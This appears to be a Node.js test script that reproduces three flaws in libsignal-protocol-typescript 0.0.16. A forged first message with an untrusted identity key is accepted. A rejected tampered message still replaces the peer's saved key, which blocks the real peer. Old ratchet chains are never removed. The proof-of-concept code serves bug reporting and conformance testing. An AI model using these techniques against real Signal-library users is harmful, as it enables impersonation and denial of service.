// Minimal reproducers, on the library directly (no adapter), for npm
// @privacyresearch/libsignal-protocol-typescript 0.0.16. README.md of
// conformance/adapters/privacyresearch-ts explains them.
//
//   node conformance/adapters/v2_tools/repro_privacyresearch_ts.js
//
// (after conformance/adapters/privacyresearch-ts/run.sh has installed its
// packages). One line per case, then `N passed, M failed`, where `passed`
// counts the library behaving as recorded in the README. Exit status 0 when
// every case behaves as recorded.
'use strict';

const path = require('node:path');
const { createRequire } = require('node:module');
const { Console } = require('node:console');

const quiet = new Console({ stdout: process.stderr, stderr: process.stderr });
for (const m of ['log', 'info', 'warn', 'error', 'debug']) console[m] = quiet[m].bind(quiet);
const req = createRequire(path.join(__dirname, '..', 'privacyresearch-ts', 'package.json'));
const PKG = '@privacyresearch/libsignal-protocol-typescript';
const S = req(PKG);
const { SessionRecord } = req(`${PKG}/lib/session-record`);

const ab = (b) => Uint8Array.from(b).buffer;
const bin = (s) => ab(Buffer.from(s, 'latin1'));

// An application store that refuses a changed identity key.
class Storage {
  constructor(identity, registrationId) {
    this.identity = identity;
    this.registrationId = registrationId;
    this.records = new Map();
    this.identities = new Map();
    this.preKeys = new Map();
  }
  async getIdentityKeyPair() {
    return this.identity;
  }
  async getLocalRegistrationId() {
    return this.registrationId;
  }
  async isTrustedIdentity(name, key) {
    const known = this.identities.get(name);
    return known === undefined || Buffer.from(known).equals(Buffer.from(key));
  }
  async saveIdentity(addr, key) {
    this.identities.set(addr.split('.')[0], key);
    return false;
  }
  async loadPreKey(id) {
    return this.preKeys.get(Number(id));
  }
  async storePreKey(id, kp) {
    this.preKeys.set(Number(id), kp);
  }
  async removePreKey(id) {
    this.preKeys.delete(Number(id));
  }
  async loadSignedPreKey(id) {
    return Number(id) === 1 ? this.signed.keyPair : undefined;
  }
  async storeSignedPreKey() {}
  async removeSignedPreKey() {}
  async storeSession(a, r) {
    this.records.set(a, r);
  }
  async loadSession(a) {
    return this.records.get(a);
  }
}
async function party() {
  const id = await S.KeyHelper.generateIdentityKeyPair();
  const s = new Storage(id, S.KeyHelper.generateRegistrationId());
  s.signed = await S.KeyHelper.generateSignedPreKey(id, 1);
  for (let i = 1; i <= 3; i++) s.preKeys.set(i, (await S.KeyHelper.generatePreKey(i)).keyPair);
  return s;
}
function bundle(p, preKeyId) {
  return {
    identityKey: p.identity.pubKey,
    registrationId: p.registrationId,
    preKey: { keyId: preKeyId, publicKey: p.preKeys.get(preKeyId).pubKey },
    signedPreKey: { keyId: 1, publicKey: p.signed.keyPair.pubKey, signature: p.signed.signature },
  };
}
const ALICE = new S.SignalProtocolAddress('alice', 1);
const BOB = new S.SignalProtocolAddress('bob', 1);

async function established() {
  const alice = await party();
  const bob = await party();
  await new S.SessionBuilder(alice, BOB).processPreKey(bundle(bob, 1));
  const aToB = new S.SessionCipher(alice, BOB);
  const bToA = new S.SessionCipher(bob, ALICE);
  await bToA.decryptPreKeyWhisperMessage(bin((await aToB.encrypt(ab(Buffer.from('hello')))).body), 'binary');
  await aToB.decryptWhisperMessage(bin((await bToA.encrypt(ab(Buffer.from('hi')))).body), 'binary');
  return { alice, bob, aToB, bToA };
}

// Case 1: SessionBuilder.processV3 calls storage.isTrustedIdentity without
// `await`; the Promise it gets is truthy, so a first message with another
// identity key than the one the store trusts for that address is accepted,
// and processV3 then saves the new key (saveIdentity) before the message is
// authenticated.
async function identityCheckBypassed() {
  const { bob } = await established();
  const mallory = await party();
  await new S.SessionBuilder(mallory, BOB).processPreKey(bundle(bob, 2));
  const forged = (await new S.SessionCipher(mallory, BOB).encrypt(ab(Buffer.from('from mallory')))).body;
  const trustedBefore = await bob.isTrustedIdentity('alice', mallory.identity.pubKey);
  let pt = null;
  try {
    pt = Buffer.from(await new S.SessionCipher(bob, ALICE).decryptPreKeyWhisperMessage(bin(forged), 'binary')).toString();
  } catch {
    pt = null;
  }
  const saved = Buffer.from(bob.identities.get('alice')).equals(Buffer.from(mallory.identity.pubKey));
  return { ok: trustedBefore === false && pt === 'from mallory' && saved, detail: `store trusted Mallory's key before: ${trustedBefore}; delivered: ${pt !== null}; Mallory's key saved for alice: ${saved}` };
}

// Case 2: a rejected first message (an authentic one with its inner MAC
// broken) still replaces the saved identity key for the address: processV3
// calls saveIdentity before the inner message is checked; the store then
// refuses the real peer's messages.
async function rejectedFirstMessageSavesIdentity() {
  const { bob, aToB, bToA } = await established();
  const mallory = await party();
  await new S.SessionBuilder(mallory, BOB).processPreKey(bundle(bob, 3));
  const body = Buffer.from((await new S.SessionCipher(mallory, BOB).encrypt(ab(Buffer.from('x')))).body, 'latin1');
  body[body.length - 1] ^= 1; // inner MAC
  let rejected = false;
  try {
    await new S.SessionCipher(bob, ALICE).decryptPreKeyWhisperMessage(ab(body), 'binary');
  } catch {
    rejected = true;
  }
  const saved = Buffer.from(bob.identities.get('alice')).equals(Buffer.from(mallory.identity.pubKey));
  // Afterwards Alice's authentic message is refused ("Identity key changed").
  let aliceOk = true;
  try {
    await bToA.decryptWhisperMessage(bin((await aToB.encrypt(ab(Buffer.from('still me')))).body), 'binary');
  } catch {
    aliceOk = false;
  }
  return {
    ok: rejected && saved && !aliceOk,
    detail: `rejected: ${rejected}; Mallory's key saved for alice: ${saved}; Alice's next message delivered: ${aliceOk}`,
  };
}

// Case 3: old receiving chains are never removed. removeOldChains
// (session-record.js) trims oldRatchetList to 10 entries but deletes
// `session[binary string of the key]` instead of `session.chains[base64 of
// the key]`, so every receiving chain (and its skipped keys) stays.
async function oldChainsKept() {
  const { bob, aToB, bToA } = await established();
  for (let t = 0; t < 30; t++) {
    await bToA.decryptWhisperMessage(bin((await aToB.encrypt(ab(Buffer.from('a')))).body), 'binary');
    await aToB.decryptWhisperMessage(bin((await bToA.encrypt(ab(Buffer.from('b')))).body), 'binary');
  }
  const rec = SessionRecord.deserialize(bob.records.get(ALICE.toString()));
  const open = rec.getOpenSession();
  const chains = Object.keys(open.chains).length;
  return { ok: chains > 11 && open.oldRatchetList.length === 10, detail: `chains kept after 31 turns each way: ${chains}; oldRatchetList: ${open.oldRatchetList.length}` };
}

async function main() {
  let passed = 0;
  let failed = 0;
  for (const [name, fn] of [
    ['first message with an untrusted identity key accepted', identityCheckBypassed],
    ['rejected first message replaces the saved identity key', rejectedFirstMessageSavesIdentity],
    ['old receiving chains never removed', oldChainsKept],
  ]) {
    const r = await fn();
    process.stdout.write(`${r.ok ? 'ok  ' : 'FAIL'} ${name}: ${r.ok ? 'reproduced' : 'not reproduced'} (${r.detail})\n`);
    if (r.ok) passed++;
    else failed++;
  }
  process.stdout.write(`${passed} passed, ${failed} failed\n`);
  process.exit(failed === 0 ? 0 : 1);
}
main().catch((e) => {
  process.stderr.write(`${e.stack}\n`);
  process.exit(2);
});
